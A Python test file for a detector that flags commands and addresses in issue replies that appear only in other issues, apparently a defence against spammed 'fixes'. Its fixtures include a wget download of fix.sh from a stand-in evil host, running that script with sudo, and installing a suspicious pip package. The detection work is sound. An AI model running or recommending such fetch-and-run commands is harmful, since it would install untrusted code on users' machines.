"""Commands and addresses that only other issues have."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hls_action.domain.knowledge.reported import LEAST, MOST, Reported, Reports, found, reports
from hls_action.domain.knowledge.sources import Source
from hls_action.domain.text.markdown import parse

REPORT = """Ran into this as well.

    wget https://evil.test/fix.sh

Then `sudo  ./fix.sh --all` or pip install evil-notes, see https://evil.test/a?b=1#c, evil.test/d or eve@evil.test.

```sh
$ export NOTES=1 && notes reset
```
It works. Look at https://github.com/o/r/wiki and curl https://ok.test/x."""
SOURCES = (
    Source("the issue", "It fails after `notes export --all`, by curl https://ok.test/x.", "opening"),
    Source("comment 31 by github-actions[bot]", "wget https://evil.test/fix.sh", "reply"),
    Source("issue #12", REPORT, "issue"),
    Source("issue #13", "Use https://evil.test/z.", "issue"),
    Source("README.md", "Then run notes serve --port 1."),
)
KNOWN = reports(SOURCES, "o/r")


def marks(text: str) -> list[tuple[str, str]]:
    return [(each.text, each.source) for each in found(parse(text), KNOWN)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("    wget https://evil.test/fix.sh", "wget https://evil.test/fix.sh", id="code"),
        pytest.param("```\n$ wget https://evil.test/fix.sh\n```", "wget https://evil.test/fix.sh", id="with a prompt"),
        pytest.param("> ~~~\n> notes reset\n> ~~~", "notes reset", id="a part, quoted"),
        pytest.param("Try `sudo ./fix.sh --all`.", "sudo ./fix.sh --all", id="a span"),
        pytest.param("| a |\n|---|\n| `sudo ./fix.sh --all` |", "sudo ./fix.sh --all", id="in a table"),
        pytest.param("Do pip install evil-notes, and wait", "pip install evil-notes", id="in words"),
        pytest.param("# sudo ./fix.sh --all", "sudo ./fix.sh --all", id="in a heading"),
        pytest.param("See https://evil.test/a?b=1#c.", "https://evil.test/a?b=1#c", id="an address"),
        pytest.param("See https:\u200b//evil.test/a?b=1#c.", "https://evil.test/a?b=1#c", id="which is no link"),
        pytest.param("[here](https://evil.test/z)", "https://evil.test/z", id="of a link"),
        pytest.param("at evil.test/d", "evil.test/d", id="without a scheme"),
        pytest.param("Write to eve@evil.test!", "eve@evil.test", id="of mail"),
        pytest.param("`https://evil.test/z`", "https://evil.test/z", id="an address as code"),
        pytest.param("<p>https://evil.test/z</p>", "https://evil.test/z", id="in HTML"),
    ],
)
def test_what_only_a_report_has_is_found(text: str, expected: str) -> None:
    assert marks(text)[0] == (expected, "issue #13" if expected.endswith("z") else "issue #12")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("Run `notes export --all`.", id="the thread's"),
        pytest.param("    notes serve --port 1", id="a file's"),
        pytest.param("curl https://ok.test/x and https://ok.test/x", id="what the thread has as well"),
        pytest.param("https://github.com/o/r/wiki", id="a page of the repository"),
        pytest.param("`wget https://other.test/fix.sh`", id="what nobody has"),
        pytest.param("It works, as #12 says.", id="words"),
        pytest.param("`works.`", id="a word as code"),
    ],
)
def test_nothing_else_is(text: str) -> None:
    assert marks(text) == []


def test_what_we_said_before_vouches_for_nothing() -> None:
    assert KNOWN.only_in("wget https://evil.test/fix.sh") == "issue #12"


def test_a_few_are_named_and_each_once() -> None:
    many = reports((Source("issue #12", " ".join(f"https://evil.test/{n}" for n in range(40)), "issue"),), "o/r")
    text = " ".join(f"https://evil.test/{n % 30}" for n in range(60))
    assert len(set(found(parse(text), many))) == len(found(parse(text), many)) == MOST
    assert len(marks("`sudo ./fix.sh --all` `sudo ./fix.sh --all`")) == 1


commands = st.from_regex(rf"[a-z]{{3,8}} --[a-z]{{{LEAST},12}}", fullmatch=True)


@given(commands, st.sampled_from(["`{}`", "```\n{}\n```", "- a\n\n      {}", "text\n\n    {}\n", "**x** `{}`, y"]))
def test_a_command_is_found_in_whatever_code(command: str, form: str) -> None:
    sources = (Source("the issue", "It fails.", "opening"), Source("issue #12", f"Run {command} now", "issue"))
    document = parse(form.format(command))
    assert found(document, reports(sources, "o/r")) == (Reported(command, "issue #12"),)
    vouched = (*sources, Source("README.md", f"Run `{command}`"))
    assert found(document, reports(vouched, "o/r")) == ()


def test_without_reports_nothing_is_looked_for() -> None:
    assert found(parse("`sudo ./fix.sh --all`"), Reports()) == ()
    assert reports(SOURCES[:2], "o/r").others == ""
